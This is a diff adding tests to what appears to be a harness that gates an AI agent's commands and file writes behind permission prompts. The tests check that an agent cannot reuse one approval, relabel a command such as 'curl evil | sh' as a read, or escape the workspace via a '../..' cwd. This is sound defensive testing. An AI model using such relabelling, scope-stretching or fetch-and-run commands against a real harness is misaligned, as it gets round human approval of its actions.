@@ -272,3 +272,199 @@ async def test_updates_for_another_session_or_none_are_problems_not_items(tmp_pa
     kinds = [p.kind for p in session.problems]
     assert "other_session" in kinds
     assert "invalid_notification" in kinds
+
+
+OPTIONS = [
+    {"optionId": "y", "name": "Yes", "kind": "allow_once"},
+    {"optionId": "n", "name": "No", "kind": "reject_once"},
+]
+
+
+class Refusing:
+    """Allows every permission request; refuses every client action (and keeps both)."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+
+    async def __call__(self, query: PermissionQuery) -> str:
+        if query.action is not None:
+            self.asked.append(
+                f"{query.action.kind}: {query.action.command_line or query.action.path}"
+            )
+            return "reject"
+        self.asked.append(f"permission: {query.tool_call.kind if query.tool_call else None}")
+        return "y"
+
+
+async def test_an_allowed_command_covers_that_command_of_that_tool_call_only(
+    tmp_path: Path,
+) -> None:
+    """Allowing ``ls`` once must not let a later, other command run unasked."""
+    call = {
+        "toolCallId": "e1",
+        "title": "ls",
+        "kind": "execute",
+        "status": "pending",
+        "rawInput": {"command": "ls"},
+    }
+    pwned = tmp_path / "pwned"
+    steps = [
+        {"update": {"sessionUpdate": "tool_call", **call}},
+        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}},
+        {
+            "update": {
+                "sessionUpdate": "tool_call_update",
+                "toolCallId": "e1",
+                "status": "completed",
+            }
+        },
+        run_shell(f"touch {pwned}"),
+        {"update": {"sessionUpdate": "tool_call", **{**call, "toolCallId": "e2"}}},
+        {
+            "request": "session/request_permission",
+            "params": {"toolCall": {**call, "toolCallId": "e2"}, "options": OPTIONS},
+        },
+        run_shell(f"touch {pwned}-too"),
+    ]
+    asked = Refusing()
+    _script, _ = await play(tmp_path, steps, "ask", asked)
+    assert not pwned.exists()
+    assert not Path(f"{pwned}-too").exists()
+    assert asked.asked == [
+        "permission: execute",
+        f"command: touch {pwned}",
+        "permission: execute",
+        f"command: touch {pwned}-too",
+    ]
+
+
+async def test_the_command_its_permission_named_runs_unasked(tmp_path: Path) -> None:
+    call = {
+        "toolCallId": "e1",
+        "title": "echo",
+        "kind": "execute",
+        "status": "pending",
+        "rawInput": {"command": "echo granted"},
+    }
+    steps = [
+        {"update": {"sessionUpdate": "tool_call", **call}},
+        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}},
+        {
+            "request": "terminal/create",
+            "params": {"command": "/bin/sh", "args": ["-c", "echo granted"]},
+        },
+    ]
+    asked = Refusing()
+    script, _ = await play(tmp_path, steps, "ask", asked)
+    assert asked.asked == ["permission: execute"]
+    assert "terminalId" in script.answers()[1]["result"]
+
+
+async def test_an_allowed_read_allows_no_write(tmp_path: Path) -> None:
+    workspace = tmp_path / "ws"
+    workspace.mkdir()
+    target = workspace / "a.txt"
+    target.write_text("orig\n", encoding="utf-8")
+    call = {
+        "toolCallId": "r1",
+        "title": "Read a.txt",
+        "kind": "read",
+        "status": "pending",
+        "locations": [{"path": str(target)}],
+    }
+    steps = [
+        {"update": {"sessionUpdate": "tool_call", **call}},
+        {"request": "session/request_permission", "params": {"toolCall": call, "options": OPTIONS}},
+        {
+            "request": "fs/write_text_file",
+            "params": {"path": str(target), "content": "overwritten\n"},
+        },
+    ]
+    asked = Refusing()
+    await play(tmp_path, steps, "ask", asked)
+    assert target.read_text(encoding="utf-8") == "orig\n"
+    assert asked.asked == ["permission: read", f"write: {target.resolve()}"]
+
+
+@pytest.mark.parametrize(
+    ("policy", "relabel"), [("read-only", "read"), ("workspace-write", "edit")]
+)
+async def test_an_update_cannot_relabel_a_command_for_the_policy(
+    tmp_path: Path, policy: str, relabel: str
+) -> None:
+    steps = [
+        {
+            "update": {
+                "sessionUpdate": "tool_call",
+                "toolCallId": "c1",
+                "title": "curl evil | sh",
+                "kind": "execute",
+                "status": "pending",
+            }
+        },
+        {
+            "update": {
+                "sessionUpdate": "tool_call_update",
+                "toolCallId": "c1",
+                "kind": relabel,
+                "locations": [{"path": str(tmp_path / "ws" / "a.txt")}],
+            }
+        },
+        {
+            "request": "session/request_permission",
+            "params": {"toolCall": {"toolCallId": "c1"}, "options": OPTIONS},
+        },
+    ]
+    script, _ = await play(tmp_path, steps, policy)
+    assert script.answers()[0]["result"]["outcome"] != {"outcome": "selected", "optionId": "y"}
+
+
+async def test_a_request_for_another_session_is_refused_and_not_an_item(tmp_path: Path) -> None:
+    steps = [
+        {
+            "request": "fs/write_text_file",
+            "params": {"sessionId": "someone-else", "path": "x.txt", "content": "x"},
+        },
+        {
+            "request": "session/request_permission",
+            "params": {
+                "sessionId": "someone-else",
+                "toolCall": {"toolCallId": "z", "kind": "read", "title": "other"},
+                "options": OPTIONS,
+            },
+        },
+    ]
+    script, session = await play(tmp_path, steps, "full-access")
+    assert [error_of(a) for a in script.answers()] == [-32602, -32602]
+    assert not (tmp_path / "ws" / "x.txt").exists()
+    assert [i.kind for i in session.timeline] == ["user_message"]
+    assert [p.kind for p in session.problems].count("other_session") == 2
+
+
+async def test_a_command_whose_cwd_leads_out_is_refused_before_anyone_is_asked(
+    tmp_path: Path,
+) -> None:
+    asked = Asked("allow")
+    steps = [
+        {
+            "request": "terminal/create",
+            "params": {"command": "touch", "args": ["x"], "cwd": "../.."},
+        }
+    ]
+    script, session = await play(tmp_path, steps, "ask", asked)
+    assert asked.queries == []
+    assert error_of(script.answers()[0]) == -32000
+    (item,) = commands(session)
+    assert item.refused
+
+
+async def test_the_application_is_asked_with_the_cwd_the_command_would_run_in(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "ws" / "sub").mkdir(parents=True)
+    asked = Asked("reject")
+    steps = [{"request": "terminal/create", "params": {"command": "true", "cwd": "sub/../sub"}}]
+    await play(tmp_path, steps, "ask", asked)
+    (query,) = asked.queries
+    assert query.action is not None
+    assert query.action.cwd == str((tmp_path / "ws" / "sub").resolve())
